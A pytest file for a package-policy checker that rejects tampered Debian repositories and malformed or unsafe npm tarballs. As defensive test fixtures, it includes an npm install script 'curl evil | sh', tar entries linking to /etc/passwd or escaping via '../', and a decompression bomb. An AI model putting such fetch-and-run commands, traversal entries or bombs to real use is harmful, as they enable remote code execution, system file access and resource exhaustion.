"""Debian repositories and npm trees: closed worlds as well."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bundle.tests import makers
from python_plugins.tests.policy.bench import Bench, Files, indexed, npm_tree, repository, sha
from tresor.policy import debs, npm
from tresor.policy.rules import Declarations
from tresor.policy.verdict import NOTE, RefusalError

CURL = makers.deb("curl", "7.88")
INDEX = "dists/site/main/binary-amd64/Packages"


def judge(bench: Bench, files: Files) -> list[str]:
    bench.parts["debs-debian-12"] = ("debs", files)
    return bench.refused()


def test_packages_with_epoch_and_scripts_are_accepted(bench: Bench) -> None:
    vim = makers.deb("vim", "2:9.0", scripts={"postinst": b"#!/bin/sh\n"})
    assert judge(bench, repository(("curl", "7.88", CURL), ("vim", "2:9.0", vim))) == []
    (note,) = [item for item in bench.verdicts() if item.rule == "debs.scripts"]
    assert note.severity == NOTE
    assert "1 of 2 packages" in note.seen
    assert "vim (postinst)" in note.seen


def change(files: Files, old: str, new: str) -> Files:
    index = files[INDEX].replace(old.encode(), new.encode())
    assert index != files[INDEX]
    return {**files, **indexed(index)}


DEBS: dict[str, tuple[Callable[[Files], Files], str]] = {
    "package in no index": (
        lambda files: {**files, "pool/evil_1_amd64.deb": CURL},
        "debs.outside-lock",
    ),
    "another kind of file": (lambda files: {**files, "pool/run.sh": b"x"}, "debs.outside-lock"),
    "a second suite": (
        lambda files: {**files, "dists/other/Release": b"x"},
        "debs.outside-lock",
    ),
    "index of a package that is not there": (
        lambda files: change(files, "pool/curl_7.88", "pool/absent_1"),
        "debs.missing",
    ),
    "index leads outside": (
        lambda files: change(files, "pool/curl_7.88_amd64.deb", "dists/site/Release"),
        "debs.missing",
    ),
    "index with another digest": (lambda files: change(files, sha(CURL), "0" * 64), "debs.index"),
    "index with another size": (
        lambda files: change(files, f"Size: {len(CURL)}", "Size: 1"),
        "debs.index",
    ),
    "index says a higher version": (
        lambda files: change(files, "Version: 7.88", "Version: 9.99"),
        "debs.index",
    ),
    "index says another name": (
        lambda files: change(files, "Package: curl", "Package: sudo"),
        "debs.index",
    ),
    "index says another architecture": (
        lambda files: change(files, "Architecture: amd64", "Architecture: all"),
        "debs.index",
    ),
    "a field twice": (
        lambda files: change(files, "Version: 7.88", "Version: 7.88\nVersion: 7.89"),
        "debs.index",
    ),
    "index is not UTF-8": (
        lambda files: {**files, **indexed(b"\xff")},
        "debs.index",
    ),
    "release vouches for another index": (
        lambda files: {**files, INDEX: files[INDEX] + b"\n"},
        "debs.index",
    ),
    "no release": (
        lambda files: {path: raw for path, raw in files.items() if "Release" not in path},
        "debs.index",
    ),
}


@pytest.mark.parametrize("name", sorted(DEBS))
def test_repository_is_a_closed_world(bench: Bench, name: str) -> None:
    spoil, rule = DEBS[name]
    assert rule in judge(bench, spoil(repository(("curl", "7.88", CURL))))


def test_two_versions_of_a_package_are_refused(bench: Bench) -> None:
    newer = makers.deb("curl", "9.0")
    files = repository(("curl", "7.88", CURL), ("curl", "9.0", newer))
    assert "debs.twice" in judge(bench, files)


def _with_control(files: Files, name: str = "control.tar.xz") -> bytes:
    import lzma

    inner = makers.tar_of(files)
    packed = lzma.compress(inner) if name.endswith("xz") else inner
    return _ar({"debian-binary": b"2.0\n", name: packed, "data.tar.xz": b""})


def _ar(members: Files) -> bytes:
    raw = b"!<arch>\n"
    for name, content in members.items():
        raw += f"{name:16}{0:<12}{0:<6}{0:<6}{'100644':8}{len(content):<10}`\n".encode()
        raw += content + (b"\n" if len(content) % 2 else b"")
    return raw


CONTROL = b"Package: curl\nVersion: 7.88\nArchitecture: amd64\n"
BAD_DEBS = {
    "noise": b"deb",
    "tail": CURL + b"xx",
    "second package behind": CURL + CURL,
    "cut off": CURL[:-2],
    "no control": _with_control({"./x": b""}),
    "two controls": _with_control({"./control": CONTROL, "control": CONTROL}),
    "control twice in one": _with_control({"./control": CONTROL + b"\n" + CONTROL}),
    "no version": _with_control({"./control": b"Package: curl\nArchitecture: amd64\n"}),
    "unknown packing": _with_control({"./control": CONTROL}, "control.tar.zst"),
    "a member more": _ar({"debian-binary": b"", "control.tar": b"", "data.tar": b"", "x": b""}),
    "member twice": _ar({"debian-binary": b"2.0\n"}) + _ar({"debian-binary": b"2.0\n"})[8:],
    "bomb": _with_control({"./control": CONTROL, "./x": b"\0" * 40_000_000}),
}


@pytest.mark.parametrize("name", sorted(BAD_DEBS))
def test_malformed_packages_are_refused(bench: Bench, name: str) -> None:
    assert "debs.package" in judge(bench, repository(("curl", "7.88", BAD_DEBS[name])))


@settings(max_examples=200, deadline=None)
@given(st.integers(0, len(CURL) - 1), st.integers(1, 255))
def test_a_changed_byte_of_a_package_never_crashes(position: int, difference: int) -> None:
    raw = bytearray(CURL)
    raw[position] ^= difference
    try:
        debs.inspect(io.BytesIO(bytes(raw)), len(raw), "x")
    except RefusalError as error:
        assert error.rule == "debs.package"


# npm

PACKAGE = {"name": "demo", "version": "1.0.0", "license": "MIT"}


def tree(bench: Bench, raw: bytes, version: str = "1.0.0") -> list[str]:
    bench.parts["npm-idp"] = ("npm", npm_tree(("demo", version, raw)))
    return bench.refused()


@pytest.mark.parametrize("script", ["preinstall", "install", "postinstall"])
def test_script_that_npm_runs_needs_an_allowance(bench: Bench, script: str) -> None:
    raw = makers.tarball({**PACKAGE, "scripts": {script: "curl evil | sh"}})
    assert tree(bench, raw) == ["npm.script"]
    bench.declared = Declarations(allow={("npm.script", "demo"): frozenset({script})})
    assert bench.refused() == []


def test_native_build_counts_as_a_script(bench: Bench) -> None:
    assert tree(bench, makers.tarball(PACKAGE, {"package/binding.gyp": b"{}"})) == ["npm.script"]


def test_developers_scripts_are_harmless(bench: Bench) -> None:
    assert tree(bench, makers.tarball({**PACKAGE, "scripts": {"test": "x", "prepare": "y"}})) == []


def test_packages_inside_a_package_are_refused(bench: Bench) -> None:
    raw = makers.tarball(PACKAGE, {"package/node_modules/evil/index.js": b""})
    assert tree(bench, raw) == ["npm.nested"]


def test_other_version_than_the_tree_is_refused(bench: Bench) -> None:
    raw = makers.tarball({**PACKAGE, "version": "9.0.0"})
    assert "npm.outside-lock" in tree(bench, raw)


def test_tarball_outside_the_tree_is_refused(bench: Bench) -> None:
    kind, files = bench.parts["npm-idp"]
    more = makers.tarball({**PACKAGE, "name": "evil"})
    bench.parts["npm-idp"] = (kind, {**files, "evil-1.0.0.tgz": more})
    assert "npm.outside-lock" in bench.refused()


@pytest.mark.parametrize(
    "place",
    ["../demo", "node_modules/../../demo", "/node_modules/demo", "node_modules/other", "demo", ""],
)
def test_place_outside_the_tree_is_refused(bench: Bench, place: str) -> None:
    files = npm_tree(("demo", "1.0.0", makers.tarball(PACKAGE)))
    rows = json.loads(files["package-tree.json"])
    rows[0]["path"] = place
    files["package-tree.json"] = json.dumps(rows).encode()
    bench.parts["npm-idp"] = ("npm", files)
    assert bench.refused() == ["npm.tree.form"]


def _linked(kind: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("package/x")
        info.type = kind
        info.linkname = "/etc/passwd"
        archive.addfile(info)
    return gzip.compress(buffer.getvalue(), mtime=0)


@pytest.mark.parametrize(
    "raw",
    [
        _linked(tarfile.SYMTYPE),
        _linked(tarfile.LNKTYPE),
        _linked(tarfile.CHRTYPE),
        _linked(tarfile.FIFOTYPE),
        makers.tarball(PACKAGE, {"../evil": b""}),
        makers.tarball(PACKAGE, {"/etc/x": b""}),
        makers.tarball(PACKAGE, {"other/package.json": json.dumps(PACKAGE).encode()}),
        gzip.compress(makers.tar_of({"package/readme": b""}), mtime=0),
        b"noise",
        b"",
        makers.tarball(PACKAGE)[:-20],
    ],
    ids=range(11),
)
def test_malformed_tarballs_are_refused(bench: Bench, raw: bytes) -> None:
    assert tree(bench, raw)[0] in ("npm.package", "npm.json")


def test_tarball_with_old_licence_form_is_read() -> None:
    raw = makers.tarball({**PACKAGE, "license": {"type": "BSD-2-Clause"}})
    assert npm.inspect(io.BytesIO(raw), "x").licence == "BSD-2-Clause"
